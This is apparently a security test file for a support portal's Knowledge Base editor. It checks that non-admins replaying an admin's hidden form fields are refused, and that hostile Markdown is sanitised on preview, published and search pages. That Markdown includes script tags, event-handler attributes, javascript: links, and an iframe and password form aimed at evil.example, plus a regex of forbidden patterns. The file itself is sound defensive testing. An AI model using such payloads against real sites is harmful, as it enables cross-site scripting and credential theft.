import { count, eq } from "drizzle-orm";
import { db } from "@/lib/db";
import { auditLog, kbArticles, kbArticleVersions } from "@/lib/db/schema";
import { hiddenFields, postForm } from "../e2e/support/form-post";
import { startPortal, type Portal } from "../e2e/support/portal-server";
import { signedInCookie } from "./support/attacker";

/**
 * Attack (issue 31, S34): the Knowledge Base editor's actions posted by a customer, a signed-out
 * visitor, and an agent for the admins' ones — nothing changes; and hostile Markdown written
 * through the editor, published, searched: nothing of it runs on the public pages.
 */
const customer = { username: "mallory", email: "mallory@example.test", name: "Mallory", password: "mallory lantern orchard ridge" };
const agent = { username: "agent-ann", email: "ann@example.test", name: "Ann Agent", password: "ann lantern orchard ridge" };
const admin = { username: "admin-abe", email: "abe@example.test", name: "Abe Admin", password: "abe lantern orchard ridge" };

let portal: Portal;
const cookies: Record<"customer" | "agent" | "admin", string> = { customer: "", agent: "", admin: "" };
let articleId = 0;

const articleFields = (slug: string, body: string, intent = "save"): Array<[string, string]> => [
  ["slug", slug],
  ["title", `Article ${slug}`],
  ["category", "Account"],
  ["summary", "A summary."],
  ["body", body],
  ["intent", intent],
];

beforeAll(async () => {
  portal = await startPortal([customer, agent, admin], {}, { roles: { "agent-ann": "agent", "admin-abe": "admin" } });
  cookies.customer = await signedInCookie(portal.baseUrl, customer.username, customer.password);
  cookies.agent = await signedInCookie(portal.baseUrl, agent.username, agent.password, { receiver: portal.receiver, email: agent.email });
  cookies.admin = await signedInCookie(portal.baseUrl, admin.username, admin.password, { receiver: portal.receiver, email: admin.email });
  const created = await postForm(portal.baseUrl, "/staff/knowledge-base/new", "article-form", [["locale", "en"], ...articleFields("target-article", "Version one.")], { cookie: cookies.agent });
  articleId = Number(/\/staff\/knowledge-base\/(\d+)/.exec(created.location ?? "")?.[1]);
  expect(articleId).toBeGreaterThan(0);
  // A second version, so the page offers Restore and Publish for version 1.
  await postForm(portal.baseUrl, `/staff/knowledge-base/${articleId}`, "article-form", articleFields("target-article", "Version two."), { cookie: cookies.agent });
});
afterAll(async () => {
  await portal?.stop();
});

async function fingerprint() {
  const database = await db();
  const [articles] = await database.select({ n: count() }).from(kbArticles);
  const [versions] = await database.select({ n: count() }).from(kbArticleVersions);
  const [audited] = await database.select({ n: count() }).from(auditLog);
  const target = await database.select({ status: kbArticles.status, latest: kbArticles.latestVersion, published: kbArticles.publishedVersion }).from(kbArticles).where(eq(kbArticles.id, articleId));
  return JSON.stringify({ articles: articles.n, versions: versions.n, audited: audited.n, target });
}


describe("attack: the Knowledge Base editor's actions posted by people without the role", () => {
  const forms = (): Array<[string, string, Array<[string, string]>]> => [
    ["/staff/knowledge-base/new", "article-form", [["locale", "en"], ...articleFields("attackers-article", "Mine.", "publish")]],
    [`/staff/knowledge-base/${articleId}`, "article-form", articleFields("target-article", "Overwritten by the attacker.", "publish")],
    [`/staff/knowledge-base/${articleId}`, "restore-form-1", []],
    [`/staff/knowledge-base/${articleId}`, "publish-form-1", []],
  ];

  it.each([
    ["a customer", "customer"],
    ["a signed-out visitor", "none"],
  ] as const)("%s posting every editor action is refused, and nothing changes", async (_who, as) => {
    for (const [path, formId, fields] of forms()) {
      const before = await fingerprint();
      // The admin's page gives the hidden fields naming the action; the attacker's cookie posts them.
      const poster = await formPoster(path, formId);
      const answer = await poster.multipartPost([...poster.hiddenFields, ...fields], as === "none" ? "" : cookies.customer);
      const refused = as === "none" ? answer.status === 404 || (answer.status === 303 && answer.location?.includes("/signin?")) : answer.status === 404;
      expect({ formId, status: answer.status, refused }).toEqual({ formId, status: answer.status, refused: true });
      expect({ formId, state: await fingerprint() }).toEqual({ formId, state: before });
    }
  });

  it("an agent's publish is refused (404), and an agent's 'Save and publish' only saves a draft", async () => {
    const before = await fingerprint();
    const poster = await formPoster(`/staff/knowledge-base/${articleId}`, "publish-form-1");
    expect((await poster.multipartPost(poster.hiddenFields, cookies.agent)).status).toBe(404);
    expect(await fingerprint()).toEqual(before);
    const [row] = await (await db()).select({ status: kbArticles.status }).from(kbArticles).where(eq(kbArticles.id, articleId));
    expect(row.status).toBe("draft");
  });
});

/** The hidden fields of a form as an admin's page renders them, and a way to post them with anyone's cookie. */
async function formPoster(path: string, formId: string) {
  const fields = await hiddenFields(portal.baseUrl, path, formId, cookies.admin);
  return {
    hiddenFields: fields,
    multipartPost: async (all: Array<[string, string]>, cookie: string) => {
      const body = new FormData();
      for (const [name, value] of all) body.append(name, value);
      const response = await fetch(`${portal.baseUrl}${path}`, { method: "POST", body, redirect: "manual", headers: { origin: portal.baseUrl, cookie } });
      await response.arrayBuffer();
      return { status: response.status, location: response.headers.get("location") };
    },
  };
}

describe("attack: hostile Markdown through the editor", () => {
  const hostile = [
    "# Tangerine troubles",
    "",
    '<script>window.pwned = 1</script><img src="https://tracker.example/p.gif" onerror="window.pwned = 2">',
    "",
    "[click](javascript:window.pwned=3) <a href=\"javascript:window.pwned=4\">x</a> <iframe src=\"https://evil.example\"></iframe>",
    "",
    '<form action="https://evil.example"><input name="password"></form> <style>body{display:none}</style>',
    "",
    "Tangerines & <b onclick=\"window.pwned=5\">more</b> tangerines.",
  ].join("\n");
  const forbidden = /<script|onerror=|onclick=|href="javascript:|<iframe|<form action="https:\/\/evil|<style|tracker\.example/;

  it("the preview, the published page and the search results carry none of it", async () => {
    const preview = await postForm(portal.baseUrl, "/staff/knowledge-base/new", "article-form", [["locale", "en"], ...articleFields("tangerine-troubles", hostile, "preview")], { cookie: cookies.agent });
    expect(preview.status).toBe(200);
    expect(preview.body).toContain("Tangerine troubles");
    // The preview as rendered (the page's flight data also carries the typed text, as a JSON string).
    const previewPanel = preview.body.slice(preview.body.indexOf('id="article-preview"'), preview.body.indexOf("</section>", preview.body.indexOf('id="article-preview"')));
    expect(previewPanel).toContain("<h2>Tangerine troubles</h2>");
    expect(previewPanel).not.toMatch(forbidden);

    const published = await postForm(portal.baseUrl, "/staff/knowledge-base/new", "article-form", [["locale", "en"], ...articleFields("tangerine-troubles", hostile, "publish")], { cookie: cookies.admin });
    expect(published.location).toMatch(/done=published$/);
    const page = await fetch(`${portal.baseUrl}/knowledge-base/tangerine-troubles`);
    if (page.status !== 200) console.log(portal.log().slice(-4000));
    expect(page.status).toBe(200);
    const html = await page.text();
    const article = html.slice(html.indexOf('id="article-heading"'), html.indexOf('id="helpful-heading"'));
    expect(article).toContain("Tangerine troubles");
    expect(article).not.toMatch(forbidden);

    const results = await (await fetch(`${portal.baseUrl}/search?q=tangerines`)).text();
    expect(results).toContain('href="/knowledge-base/tangerine-troubles"');
    const list = results.slice(results.indexOf('id="search-heading"'), results.indexOf("</ol>"));
    expect(list).not.toMatch(forbidden);
    expect(list).not.toMatch(/<b[ >]/);
  });

  it("an archived article answers 410 Gone, with a link to search", async () => {
    const [row] = await (await db()).select({ id: kbArticles.id }).from(kbArticles).where(eq(kbArticles.slug, "tangerine-troubles"));
    const archived = await postForm(portal.baseUrl, `/staff/knowledge-base/${row.id}`, "archive-form", [], { cookie: cookies.admin });
    expect(archived.location).toMatch(/done=archived$/);
    const gone = await fetch(`${portal.baseUrl}/knowledge-base/tangerine-troubles`);
    expect(gone.status).toBe(410);
    expect(await gone.text()).toContain('href="/search"');
    expect((await fetch(`${portal.baseUrl}/knowledge-base/following-your-cases`)).status).toBe(200);
  });
});
